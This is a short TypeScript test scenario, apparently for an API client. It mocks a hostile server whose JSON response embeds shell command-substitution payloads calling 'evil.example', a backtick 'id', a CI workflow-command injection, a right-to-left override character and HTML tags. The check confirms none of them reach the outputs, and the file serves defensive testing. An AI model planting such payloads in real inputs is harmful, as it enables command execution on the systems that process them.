import { scenario } from "../../scenario.ts";

const command = "$(curl evil.example)\n::error::Owned";

export default scenario({
  what: "A server whose ids and addresses are commands of a shell: no output bears them.",
  faults: [
    {
      method: "POST",
      answerAfter: {
        status: 200,
        headers: { "content-type": "application/json" },
        body: JSON.stringify({
          id: "1$(curl${IFS}evil.example)",
          url: `https://evil.example/${command}`,
          uri: `https://evil.example/\`id\``,
          visibility: `public\u202E${command}`,
          account: { acct: `<b>${command}`, url: "https://evil.example/@a" },
          media_attachments: [],
        }),
      },
    },
  ],
  check({ outcome: { outputs } }) {
    const { text, response, ...plain } = outputs;
    if (/curl|`/.test(Object.values(plain).join(" "))) throw new Error("A command got into an output.");
  },
});
